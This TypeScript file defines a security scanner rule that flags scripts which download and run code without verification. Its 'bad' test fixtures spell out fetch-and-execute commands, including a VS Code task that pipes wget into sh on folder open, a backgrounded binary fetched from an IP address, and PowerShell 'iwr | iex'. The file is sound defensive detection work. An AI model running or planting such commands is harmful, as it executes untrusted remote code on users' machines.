import { defineRule } from '../../rule.ts';
import { commandHits } from './commandHits.ts';

export const downloadAndRun = defineRule({
  id: 'download-and-run',
  title: 'Runs what it downloads, unchecked',
  severity: 'medium',
  confidence: 'medium',
  category: 'packaging',
  applies: 'repository',
  cwe: 'CWE-494',
  why: 'Whoever controls the server, now or later, decides what runs on the machine. Nobody can tell afterwards what it was.',
  remedy: 'Download a fixed version, verify its hash or signature, then run it.',
  check: (facts) => commandHits(facts, { 'runs-download': undefined }),
  examples: {
    bad: [
      {
        files: {
          '.vscode/tasks.json':
            '{"tasks":[{"command":"wget -qO- https://load.dev/linux | sh","runOptions":{"runOn":"folderOpen"}}]}',
        },
      },
      { files: { 'run.sh': 'wget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x &\n' } },
      { files: { Makefile: 'all:\n\t@(curl -s http://203.0.113.9/x || wget -qO- http://203.0.113.9/x) | bash\n' } },
      { files: { 'setup.sh': 'curl -fsSL https://get.tool.dev/install.sh | sudo bash\n' } },
      { files: { 'setup.sh': 'bash <(curl -s https://get.tool.dev/install.sh)\n' } },
      { files: { 'setup.ps1': 'iwr https://get.tool.dev/install.ps1 | iex\n' } },
      {
        files: { 'setup.ps1': "iex ((New-Object Net.WebClient).DownloadString('https://get.tool.dev/install.ps1'))\n" },
      },
    ],
    good: [
      {
        files: {
          'setup.sh': 'curl -fsSLo tool.sh https://get.tool.dev/1.2.3.sh\nsha256sum -c tool.sha256\nsh tool.sh\n',
        },
      },
      { files: { 'setup.sh': 'curl -s https://api.tool.dev/v1 | python3 -c "import json, sys"\n' } },
      { files: { 'setup.sh': 'curl -fsSLo tool.tgz https://get.tool.dev/1.2.3.tgz\nsha256sum -c tool.sha256\n' } },
      { files: { 'setup.sh': 'curl -s https://api.tool.dev/v1 | jq .version\n' } },
      { files: { 'setup.sh': 'echo "curl https://get.tool.dev | sh"\n' } },
      { files: { 'highlight.js': "const words = 'icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp';\n" } },
    ],
  },
});
